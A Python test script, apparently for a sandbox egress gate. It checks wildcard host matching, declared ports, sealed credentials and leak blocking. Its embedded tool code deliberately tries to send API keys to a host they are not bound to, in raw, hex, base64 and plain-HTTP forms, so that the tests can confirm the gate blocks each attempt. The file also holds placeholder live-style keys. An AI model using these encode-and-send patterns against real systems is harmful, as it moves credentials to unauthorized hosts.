#!/usr/bin/python3
"""The gate from inside a sandbox, through evctl-run: brought clients, wildcards, declared ports,
sealed credentials, and a key on its way to the wrong host."""
import os, sys
sys.path[:0] = [os.path.dirname(os.path.abspath(__file__)),
                os.path.join(os.path.dirname(os.path.abspath(__file__)), "../lib")]
from gatelib import Authority, Upstream, answering, calls_handler, echo, at_end, HERE
from tap import T
import base64, json, shutil

PACKAGES = ("requests", "urllib3", "idna", "certifi", "charset_normalizer", "chardet", "httpx", "httpcore",
            "h11", "anyio", "sniffio", "rfc3986")
REAL, OPEN = "sk_live_A1b2C3d4E5f6G7h8", "open-key-0123456789abcdef"
TOOL = '''
import json, urllib.error, urllib.request

def get(url, headers={}, data=None):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers, data=data), timeout=15) as r:
            return [r.status, json.loads(r.read())]
    except urllib.error.HTTPError as e:
        return [e.code, e.headers["X-Evctl-Gate"]]
    except urllib.error.URLError as e:
        return [0, type(e.reason).__name__]

def sealed():
    k = EV_KEYS["SEALED"]
    import base64
    basic = base64.b64encode(b"me:" + k.encode()).decode()
    header = get("https://sealed.x.example/?q=" + k, {"X-Key": k})
    get("https://sealed.x.example/", {"Authorization": "Basic " + basic})
    get("https://sealed.x.example/", data=json.dumps({"k": k}).encode())
    # by number: the result is searched for keys on its way out
    return {"seen": [ord(c) for c in k], "echo": any(k in h for h in header[1]["headers"]), "elsewhere": get("https://free.x.example/", {"X-Key": k})}

def stolen():
    k = EV_KEYS["OPEN"]
    import base64
    return {"own": get("https://open.x.example/", {"X-Key": k})[0],
            "raw": get("https://free.x.example/", {"X-Key": k}),
            "hex": get("https://free.x.example/", data=k.encode().hex().encode()),
            "base64": get("https://free.x.example/?" + base64.b64encode(b"ab" + k.encode()).decode()),
            "plain": get("http://open.x.example/", {"X-Key": k})}

def names():
    return {u: get(u)[0] for u in ("https://a.wild.x.example/", "https://a.b.wild.x.example/",
            "https://wild.x.example/", "https://notwild.x.example/", "https://odd.x.example:8443/",
            "https://odd.x.example/", "https://other.example/")}
'''

with T() as t:
    ca = Authority("up")
    calls = calls_handler()
    up = Upstream(ca.cert("*.x.example", "*.wild.x.example", "*.b.wild.x.example"), calls)
    echoes = Upstream(ca.cert("*.x.example", "*.wild.x.example", "*.b.wild.x.example"), answering(echo))
    plain = Upstream(None, calls, tls=False)
    t.init()
    t.cred("SEALED", REAL, "--sealed")
    t.cred("OPEN", OPEN)

    def host(name, to, *more):
        t.good("evctl-host", "add", name, "--connect-to", to.addr, "--allow-private", "--ca-file",
               ca.base + ".pem", *more)
    host("api.x.example", up)
    host("plain.x.example", plain)
    for name, key in (("sealed.x.example", "SEALED"), ("open.x.example", "OPEN"), ("free.x.example", None),
                      ("*.wild.x.example", None), ("odd.x.example:8443", None)):
        host(name, echoes, *(("--bind", key) if key else ()))
    src = t.expert("net", {"net.py": TOOL, "calls.py": open(os.path.join(HERE, "calls.py")).read()},
                   "name: net\ndescription: d\ntools:\n  - {name: calls, entry: calls.py, timeout: 25}\n" +
                   "".join("  - {name: %s, entry: 'net.py:%s', timeout: 25}\n" % (n, n)
                           for n in ("sealed", "stolen", "names")))
    brought = [p for p in PACKAGES if os.path.isdir("/usr/lib/python3/dist-packages/" + p)]
    for p in brought:
        shutil.copytree("/usr/lib/python3/dist-packages/" + p, src / p, symlinks=False,
                        ignore=shutil.ignore_patterns("__pycache__", "*.so"))
    t.good("evctl-expert", "create", "net", "--dir", src)
    t.good("evctl-expert", "attach", "net", "api.x.example", "plain.x.example", "sealed.x.example",
           "open.x.example", "free.x.example", "*.wild.x.example", "odd.x.example:8443")

    r = t.run("evctl-run", "net", "names")
    got = json.loads(r.out) if r.code == 0 else {}
    t.ok(got == {"https://a.wild.x.example/": 200, "https://a.b.wild.x.example/": 200, "https://wild.x.example/": 0,
                 "https://notwild.x.example/": 0, "https://odd.x.example:8443/": 200, "https://odd.x.example/": 403,
                 "https://other.example/": 0},
         "wildcards at any depth, declared ports, and nothing else", r)

    r = t.run("evctl-run", "net", "sealed")
    got = json.loads(r.out) if r.code == 0 else {}
    stand = "".join(map(chr, got.get("seen", [])))
    t.ok(len(stand) == len(REAL) and stand != REAL and REAL not in r.out, "code sees a stand-in", r)
    sent = echoes.bytes()
    t.ok(b"X-Key: " + REAL.encode() in sent and b"/?q=" + REAL.encode() in sent, "the host sees the value")
    t.ok(base64.b64encode(b"me:" + REAL.encode()) in sent, "inside Basic too")
    t.ok(b'{"k": "' + REAL.encode() + b'"}' in sent, "and in the body")
    t.ok(stand and stand.encode() not in sent and got.get("elsewhere") == [403, "leak"],
         "the stand-in goes nowhere, to another host least of all", r)
    t.ok(got.get("echo") is True, "what comes back has the stand-in again", r)

    r = t.run("evctl-run", "net", "stolen")
    t.ok(r.code == 0 and json.loads(r.out) == {"own": 200, "raw": [403, "leak"], "hex": [403, "leak"],
                                               "base64": [403, "leak"], "plain": [403, "plain"]},
         "a key goes to its own host only", r)

    r = t.run("evctl-run", "net", "calls", "-o", "json")
    result = r.json.get("result") if r.code == 0 else None
    rows = json.loads(result) if isinstance(result, str) else result or []
    t.ok(r.code == 0 and len(rows) > 10, "real clients in the sandbox", r)
    for name, good, note in rows:
        if good is None:
            t.n += 1
            print("ok %d - %s # SKIP %s" % (t.n, name, note))
        else:
            t.ok(good, "inside: " + name, note)
    log = t.run("evctl-log", "egress", r.json["run"])
    t.ok(log.code == 0 and "/n99" in log.out and "api.x.example" in log.out and "?" not in log.out,
         "every request is in the log of the run", log.out[:2000])
    for stop in reversed(at_end):
        stop()
